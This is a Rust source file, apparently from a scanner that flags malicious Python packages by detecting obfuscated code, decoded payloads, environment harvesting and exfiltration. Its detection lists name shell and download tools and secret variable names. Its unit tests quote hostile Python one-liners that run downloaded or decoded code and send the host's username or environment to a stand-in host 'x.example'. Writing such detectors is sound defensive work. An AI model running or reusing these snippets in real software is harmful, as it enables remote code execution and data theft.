            "attribute" => parent
                .parent()
                .filter(|call| call.kind() == "call")
                .and_then(|call| self.first_string(call)),
            _ => None,
        };
        if env_key_labels(key.as_deref()) & HOST != 0 {
            facts.signals.push(Signal::new(
                SignalKind::HostRecon,
                line_of(node),
                reach,
                format!("reads `{}` from the environment", key.unwrap_or_default()),
            ));
        }
        let whole = match parent.kind() {
            "attribute" => parent
                .child_by_field_name("attribute")
                .is_some_and(|a| matches!(self.text(a), "items" | "keys" | "values" | "copy")),
            "argument_list" => true,
            "for_statement" => true,
            _ => false,
        };
        if whole {
            facts.signals.push(Signal::new(
                SignalKind::EnvHarvest,
                line_of(node),
                reach,
                "the whole environment is read",
            ));
        }
    }

    /// Long literals that decode to text: decoded and kept for analysis.
    fn literal(&self, node: Node<'_>, reach: Reach, facts: &mut PyFacts, seen: &mut HashSet<u64>) {
        if node.byte_range().len() < super::decode::MIN_ENCODED_LEN {
            return;
        }
        let Some(value) = string_value(node, self.source) else {
            return;
        };
        let Some((text, chain)) = super::decode::unwrap_layers(&value, 4) else {
            // Code kept as plain text, to be written to a file or handed to an
            // interpreter later: analysed like the file around it.
            if value.len() >= 40 && is_python_payload(&value) && seen.insert(hash(&value)) {
                facts
                    .payloads
                    .push((line_of(node), value, "code in a string literal".to_owned()));
            } else if is_opaque(&value) {
                facts.signals.push(Signal::new(
                    SignalKind::OpaqueBlob,
                    line_of(node),
                    reach,
                    format!(
                        "a {}-character literal of random-looking text",
                        value.chars().count()
                    ),
                ));
            }
            return;
        };
        if !looks_like_code(&text) || !seen.insert(hash(&text)) {
            return;
        }
        let how: Vec<&str> = chain.iter().map(|e| e.as_str()).collect();
        let line = line_of(node);
        facts.signals.push(Signal::new(
            SignalKind::EncodedCode,
            line,
            reach,
            format!(
                "a {} literal decodes to code: `{}`",
                how.join("+"),
                crate::shorten(text.trim(), 60).replace('\n', " ")
            ),
        ));
        facts
            .payloads
            .push((line, text, format!("{} literal", how.join("+"))));
    }
}

/// The taint scope of a node: its innermost function, or module level.
fn scope_of(item: &Item<'_>) -> usize {
    item.innermost.map(|f| f.id() + 1).unwrap_or(0)
}

/// Deserializers that run code: unpickling calls any function the data names.
fn is_deserializer(name: &str) -> bool {
    matches!(name.rsplit('.').next(), Some("loads" | "load"))
        && ["pickle", "_pickle", "cPickle", "dill", "marshal"]
            .iter()
            .any(|m| name.starts_with(m))
}

fn hash(text: &str) -> u64 {
    use std::hash::{Hash, Hasher};
    let mut hasher = std::collections::hash_map::DefaultHasher::new();
    text.hash(&mut hasher);
    hasher.finish()
}

fn push_unique(list: &mut Vec<String>, item: String) {
    if !list.contains(&item) {
        list.push(item);
    }
}

fn strip_builtins(name: &str) -> String {
    name.strip_prefix("builtins.")
        .or_else(|| name.strip_prefix("__builtins__."))
        .or_else(|| name.strip_prefix("."))
        .unwrap_or(name)
        .to_owned()
}

/// The last identifier of a callee text (`f` of `self.f`, `x.y.f`).
fn last_name(text: &str) -> String {
    text.rsplit('.').next().unwrap_or(text).trim().to_owned()
}

/// Whether a callee is reached through a lookup of a computed name.
fn is_indirect(function: Node<'_>, source: &str) -> bool {
    let text = text_of(function, source);
    [
        "getattr(",
        "globals()",
        "locals()",
        "vars(",
        "__import__(",
        "__dict__",
        "import_module(",
    ]
    .iter()
    .any(|marker| text.contains(marker))
}

fn is_indirect_lookup(node: Node<'_>, source: &str) -> bool {
    matches!(node.kind(), "call" | "subscript") && is_indirect(node, source)
}

/// `open(...).read()` and friends: the version-file idiom, not hidden code.
fn reads_a_file(arg: &str) -> bool {
    arg.contains("open(") || arg.contains(".read_text(") || arg.contains("read()")
}

fn first_word(command: &str) -> String {
    let word = command.split_whitespace().next().unwrap_or("");
    let word = word.rsplit(['/', '\\']).next().unwrap_or(word);
    word.trim_matches(|c| c == '"' || c == '\'')
        .to_ascii_lowercase()
}

/// Environment variables that name the user or the machine.
const HOST_VARIABLES: &[&str] = &[
    "COMPUTERNAME",
    "USERNAME",
    "USER",
    "HOSTNAME",
    "USERDOMAIN",
    "LOGNAME",
    "USERPROFILE",
];

/// The labels of one environment variable read by name.
fn env_key_labels(key: Option<&str>) -> u8 {
    match key {
        Some(key) if HOST_VARIABLES.contains(&key) => HOST,
        Some(key) if secret_name(key) => SECRET,
        _ => 0,
    }
}

/// Variable names that hold what no library sends to a third party: private keys and
/// wallet seeds (passwords and tokens go to their own services all the time, so they are
/// not on this list).
fn secret_name(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    [
        "private_key",
        "privatekey",
        "privkey",
        "mnemonic",
        "seed_phrase",
        "seedphrase",
        "wallet_key",
        "secret_key",
    ]
    .iter()
    .any(|s| lower.contains(s))
}

fn describe(labels: u8) -> &'static str {
    if labels & SECRET != 0 {
        "secrets or personal data"
    } else {
        "the host's identity"
    }
}

/// A literal an attacker's decryption routine would take: long, and either full of
/// control characters or with the character entropy of ciphertext.
fn is_opaque(text: &str) -> bool {
    let count = text.chars().count();
    if !(200..=4_000_000).contains(&count) {
        return false;
    }
    let controls = text
        .chars()
        .filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
        .count();
    if controls * 10 >= count {
        return true;
    }
    let mut frequency: HashMap<char, usize> = HashMap::new();
    for c in text.chars() {
        *frequency.entry(c).or_default() += 1;
    }
    let entropy: f64 = frequency
        .values()
        .map(|&n| {
            let p = n as f64 / count as f64;
            -p * p.log2()
        })
        .sum();
    entropy > 5.6 && !text.contains(' ')
}

/// Whether a plain string literal holds Python that does something worth a look.
fn is_python_payload(text: &str) -> bool {
    (text.contains("import ") || text.contains("__import__"))
        && [
            "exec(",
            "system(",
            "urlopen",
            "socket.",
            "subprocess",
            "Popen",
            "b64decode",
            "requests.",
        ]
        .iter()
        .any(|m| text.contains(m))
}

/// Whether decoded text reads like code or a command line rather than data.
pub(crate) fn looks_like_code(text: &str) -> bool {
    let probes = [
        "import ",
        "exec(",
        "eval(",
        "def ",
        "os.system",
        "subprocess",
        "require(",
        "function(",
        "http://",
        "https://",
        "powershell",
        "cmd.exe",
        "/bin/sh",
        "curl ",
        "wget ",
        "base64",
        "socket",
        "__import__",
        "Invoke-",
        "IEX",
        "child_process",
    ];
    probes.iter().any(|p| text.contains(p))
}

/// Identifier shapes that only obfuscators produce: non-ASCII names, `_0x` hex names,
/// names made of `I`/`l`/`1` or `O`/`0` only.
fn identifier_shapes(items: &[Item<'_>], source: &str) -> Vec<Signal> {
    let mut non_ascii = (0usize, 0u32);
    let mut confusable = (0usize, 0u32);
    let mut names = HashSet::new();
    for item in items {
        if item.node.kind() != "identifier" {
            continue;
        }
        let name = text_of(item.node, source);
        if !names.insert(name) {
            continue;
        }
        let line = line_of(item.node);
        if !name.is_ascii() {
            non_ascii.0 += 1;
            if non_ascii.1 == 0 {
                non_ascii.1 = line;
            }
        }
        let core = name.trim_start_matches('_');
        if core.len() >= 6
            && (core.chars().all(|c| matches!(c, 'I' | 'l' | '1'))
                || core.chars().all(|c| matches!(c, 'O' | '0')))
        {
            confusable.0 += 1;
            if confusable.1 == 0 {
                confusable.1 = line;
            }
        }
    }
    let mut signals = Vec::new();
    if non_ascii.0 >= 8 {
        signals.push(Signal::new(
            SignalKind::Obfuscator,
            non_ascii.1,
            Reach::Always,
            format!("{} non-ASCII identifiers", non_ascii.0),
        ));
    }
    if confusable.0 >= 8 {
        signals.push(Signal::new(
            SignalKind::Obfuscator,
            confusable.1,
            Reach::Always,
            format!("{} identifiers of only I/l/1 or O/0", confusable.0),
        ));
    }
    signals
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(source: &str, all: bool) -> Vec<(SignalKind, Reach)> {
        let mut kinds: Vec<(SignalKind, Reach)> = analyse(source, all)
            .signals
            .into_iter()
            .map(|s| (s.kind, s.reach))
            .collect();
        kinds.sort_by_key(|(k, _)| *k);
        kinds.dedup();
        kinds
    }

    fn has(source: &str, kind: SignalKind) -> bool {
        kinds(source, true).iter().any(|(k, _)| *k == kind)
    }

    #[test]
    fn exec_of_decoded_data_through_aliases_and_lambdas() {
        assert!(has(
            "import base64 as b\nexec(b.b64decode('aW1wb3J0IG9z'))",
            SignalKind::ExecDecoded
        ));
        assert!(has(
            "from zlib import decompress as d\n_ = lambda x: d(x[::-1])\nexec((_)(b'...'))",
            SignalKind::ExecDecoded
        ));
        assert!(has(
            "import marshal\nc = marshal.loads(blob)\nexec(c)",
            SignalKind::ExecDecoded
        ));
        assert!(has(
            "def f():\n    return __import__('base64').b64decode(X)\nexec(f())",
            SignalKind::ExecDecoded
        ));
    }

    #[test]
    fn indirect_calls_resolve() {
        assert!(has(
            "getattr(__builtins__, 'ex' + 'ec')(payload)",
            SignalKind::IndirectCall
        ));
        assert!(has(
            "vars(__builtins__)['ex'+'ec'](payload)",
            SignalKind::IndirectCall
        ));
        assert!(has(
            "globals()['__builtins__']\n__import__('o'+'s').system('id')",
            SignalKind::IndirectCall
        ));
        assert!(has(
            "_add, While = exec, str\n_add(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))",
            SignalKind::ExecBuilt
        ));
        assert!(has(
            "s = getattr(__import__('os'), 'sys'+'tem')\ns('id')",
            SignalKind::IndirectCall
        ));
    }

    #[test]
    fn downloads_run() {
        assert!(has(
            "import requests\nexec(requests.get('http://x.example/p').text)",
            SignalKind::ExecDownloaded
        ));
        assert!(has(
            "from urllib.request import urlopen\nwith urlopen(u) as r:\n    code = r.read()\nexec(code)",
            SignalKind::ExecDownloaded
        ));
        assert!(has(
            "import urllib.request, os\np = urllib.request.urlretrieve(u, 'a.exe')\nos.startfile(p)",
            SignalKind::DownloadRun
        ));
    }

    #[test]
    fn host_identity_sent_is_exfiltration() {
        assert!(has(
            "import requests, getpass\nrequests.get('https://x.example/?u=' + getpass.getuser())",
            SignalKind::ExfilFlow
        ));
        assert!(has(
            "import socket, subprocess\nh = socket.gethostname()\nsubprocess.Popen(['dig', h + '.x.example'])",
            SignalKind::ExfilFlow
        ));
        assert!(has(
            "import os, requests\nrequests.post(U, data=str(os.environ))",
            SignalKind::ExfilFlow
        ));
    }

    #[test]
    fn module_level_reach() {
        let source = "import os\ndef used():\n    os.system('curl x')\ndef unused():\n    os.popen('whoami')\nused()\n";
        let found = kinds(source, false);
        assert!(
            found.contains(&(SignalKind::ProcessExec, Reach::Always)),
            "{found:?}"
        );
        assert!(
            found.contains(&(SignalKind::ProcessExec, Reach::OnCall)),
            "{found:?}"
        );
    }

    #[test]
    fn benign_build_idioms_stay_quiet() {
        let setup = "import subprocess, os\nexec(open('pkg/version.py').read())\n\
                     subprocess.check_call(['cmake', '..'])\nsubprocess.call(['pkg-config', '--libs', 'x'])\n\
                     v = os.environ.get('CC')\n";
        assert_eq!(kinds(setup, true), []);
    }

    #[test]
    fn cmdclass_override_is_seen() {
        assert!(has(
            "from setuptools import setup\nsetup(name='x', cmdclass={'install': Post})",
            SignalKind::InstallOverride
        ));
    }
}
